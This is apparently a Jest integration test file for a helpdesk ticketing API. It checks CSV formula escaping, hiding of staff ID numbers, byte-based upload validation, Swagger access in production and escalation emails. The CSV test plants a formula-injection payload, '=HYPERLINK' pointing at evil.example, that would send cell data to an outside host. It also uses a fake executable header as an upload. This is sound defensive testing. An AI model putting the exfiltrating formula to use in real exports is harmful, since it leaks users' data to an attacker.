import { TicketService } from '@desk/tickets';
import { INestApplicationContext } from '@nestjs/common';
import { createOrg, TestOrg } from '../support/factories/org.factory';
import { fileTicket } from '../support/factories/ticket.factory';
import { startApi, startWorker, TestApi, testConfig, waitFor } from '../support/harness';
import { SmtpSink } from '../support/mail';
import { countOf, sqlExecute } from '../support/db';

const NIP_TIER2 = '198703152010012003';
const NIP_APPS = '199001012015031001';

describe('Data hygiene: CSV formulas, NIPs, upload bytes, API docs, auto-escalation mail', () => {
  let api: TestApi;
  let worker: INestApplicationContext;
  let org: TestOrg;
  const sink = new SmtpSink();

  beforeAll(async () => {
    await sink.start();
    const config = await testConfig({ SMTP_URL: sink.url, MAIL_SWEEP_MS: '200' });
    api = await startApi(config);
    org = await createOrg(api.app);
    worker = await startWorker(config);
    await sqlExecute(api.dataSource, `UPDATE app_user SET nip = $2 WHERE id = $1`, [
      org.users.tier2.id,
      NIP_TIER2,
    ]);
    await sqlExecute(api.dataSource, `UPDATE app_user SET nip = $2 WHERE id = $1`, [
      org.users.tier2Apps.id,
      NIP_APPS,
    ]);
  });
  afterAll(async () => {
    await worker?.close();
    await api?.close();
    await sink.stop();
  });

  it('should escape every CSV cell that a spreadsheet would run as a formula, the scope label too', async () => {
    const evil = '=HYPERLINK("http://evil.example/?d="&A1,"Klik")';
    await sqlExecute(api.dataSource, `UPDATE unit SET name = $2 WHERE id = $1`, [org.pdA.id, evil]);
    await sqlExecute(api.dataSource, `UPDATE category SET name = '+SUM(1,2)' WHERE id = $1`, [
      org.categories.network,
    ]);
    await fileTicket(api, org.users.requesterA, { categoryId: org.categories.network, title: '-2+3 rusak' });
    const today = new Date().toISOString().slice(0, 10);
    const res = await api.http
      .get('/api/v1/reports/sla')
      .query({ from: today, to: today, unitId: org.pdA.id, format: 'csv' })
      .set(org.users.supervisor.auth)
      .buffer(true)
      .parse((r, cb) => {
        let text = '';
        r.on('data', (c: Buffer) => (text += c.toString()));
        r.on('end', () => cb(null, text));
      });
    expect(res.status).toBe(200);
    const csv = res.body as string;
    expect(csv).toContain(`'=HYPERLINK`);
    // No cell (at a line start or after a separator, quoted or not) starts with a formula character.
    // Records end in CRLF, so a carriage return can only start a cell inside quotes.
    expect(csv).not.toMatch(/(^|[,;])"?[=+@\t]/m);
    expect(csv).not.toMatch(/(^|[,;])"\r/m);
    expect(csv).not.toMatch(/(^|[,;])"?-[^0-9]/m);
  });

  describe('NIPs', () => {
    const members = (as: keyof TestOrg['users']) =>
      api.http.get(`/api/v1/teams/${org.teams.network}/members`).set(org.users[as].auth);

    it('should hide colleagues’ NIPs from Tier 2 and supervisors in team members', async () => {
      await sqlExecute(api.dataSource, `INSERT INTO team_member (team_id, user_id) VALUES ($1, $2)`, [
        org.teams.network,
        org.users.tier2Apps.id,
      ]);
      const seenByColleague = await members('tier2Apps');
      expect(seenByColleague.status).toBe(200);
      const byId = new Map(
        seenByColleague.body.map((m: { id: string; nip: string | null }) => [m.id, m.nip]),
      );
      expect(byId.get(org.users.tier2.id)).toBeNull();
      // Their own NIP, yes.
      expect(byId.get(org.users.tier2Apps.id)).toBe(NIP_APPS);
      const bySupervisor = await members('supervisor');
      expect(JSON.stringify(bySupervisor.body)).not.toContain(NIP_TIER2);
      expect(JSON.stringify(bySupervisor.body)).not.toContain(NIP_APPS);
    });

    it('should show NIPs to admins and to their owner', async () => {
      const byAdmin = await members('admin');
      expect(JSON.stringify(byAdmin.body)).toContain(NIP_TIER2);
      const me = await api.http.get('/api/v1/auth/me').set(org.users.tier2.auth);
      expect(me.body.nip).toBe(NIP_TIER2);
    });

    it('should keep NIPs out of the user directory and ticket views', async () => {
      const dir = await api.http.get('/api/v1/users/directory').set(org.users.supervisor.auth);
      expect(dir.status).toBe(200);
      expect(JSON.stringify(dir.body)).not.toMatch(/\d{18}/);
      const t = await fileTicket(api, org.users.requesterA);
      const view = await api.http.get(`/api/v1/tickets/${t.id}`).set(org.users.supervisor.auth);
      expect(JSON.stringify(view.body)).not.toContain(NIP_TIER2);
    });
  });

  describe('uploads by their bytes', () => {
    const PNG = Buffer.from(
      '89504e470d0a1a0a0000000d49484452000000010000000108060000001f15c4890000000d4944415478da6364f8ff3f0005fe02fea7d605cf0000000049454e44ae426082',
      'hex',
    );
    const EXE = Buffer.concat([
      Buffer.from('MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff', 'binary'),
      Buffer.alloc(200),
    ]);
    const upload = (ticketId: string, content: Buffer, name: string, type: string) =>
      api.http
        .post(`/api/v1/tickets/${ticketId}/attachments`)
        .set(org.users.requesterA.auth)
        .attach('file', content, { filename: name, contentType: type });

    it.each([
      ['an executable named .png', EXE, 'foto.png', 'image/png'],
      ['a PNG named .pdf', PNG, 'surat.pdf', 'application/pdf'],
      ['an executable named .txt', EXE, 'catatan.txt', 'text/plain'],
      ['an executable named .docx', EXE, 'surat.docx', 'application/octet-stream'],
    ])('should refuse %s with 415 and store nothing', async (_what, content, name, type) => {
      const t = await fileTicket(api, org.users.requesterA);
      const res = await upload(t.id, content, name, type);
      expect(res.status).toBe(415);
      expect(res.body.errors).toEqual([expect.objectContaining({ field: 'file' })]);
      const n = await countOf(
        api.dataSource,
        `SELECT count(*)::int AS n FROM ticket_attachment WHERE ticket_id = $1`,
        [t.id],
      );
      expect(n).toBe(0);
    });

    it('should accept files whose bytes match their name', async () => {
      const t = await fileTicket(api, org.users.requesterA);
      expect((await upload(t.id, PNG, 'layar.png', 'image/png')).status).toBe(201);
      expect((await upload(t.id, Buffer.from('%PDF-1.4\n'), 'surat.pdf', 'application/pdf')).status).toBe(
        201,
      );
      expect((await upload(t.id, Buffer.from('baris 1\nbaris 2\n'), 'error.log', 'text/plain')).status).toBe(
        201,
      );
    });
  });

  describe('API docs', () => {
    it('should serve Swagger UI outside production and answer 404 in production', async () => {
      expect((await api.http.get('/api/docs/')).status).toBe(200);
      const prod = await startApi(
        await testConfig({
          NODE_ENV: 'production',
          JWT_SECRET: 'p'.repeat(48),
          DATABASE_URL: api.config.DATABASE_URL,
        }),
      );
      try {
        expect((await prod.http.get('/api/docs')).status).toBe(404);
        expect((await prod.http.get('/api/docs/')).status).toBe(404);
        expect((await prod.http.get('/api/docs/openapi.json')).status).toBe(404);
        expect((await prod.http.get('/health')).status).toBe(200);
      } finally {
        await prod.close();
      }
    });
  });

  it('should mail every supervisor about an automatic escalation', async () => {
    const t = await fileTicket(api, org.users.requesterA, { categoryId: org.categories.network });
    const escalated = await api.app
      .get(TicketService)
      .escalate(null, t.id, { reason: 'Tenggat respons terlewati', automatic: true });
    expect(escalated).toBe(true);
    const mails = await waitFor(
      async () => {
        const found = sink.to(org.users.supervisor.email).filter((m) => m.subject.includes(t.number));
        return found.length ? found : null;
      },
      20000,
      'supervisor mail about the automatic escalation',
    );
    expect(mails).toHaveLength(1);
    // The team hears of it as before.
    await waitFor(
      async () => sink.to(org.users.tier2.email).some((m) => m.subject.includes(t.number)),
      20000,
      'team mail',
    );
  });
});
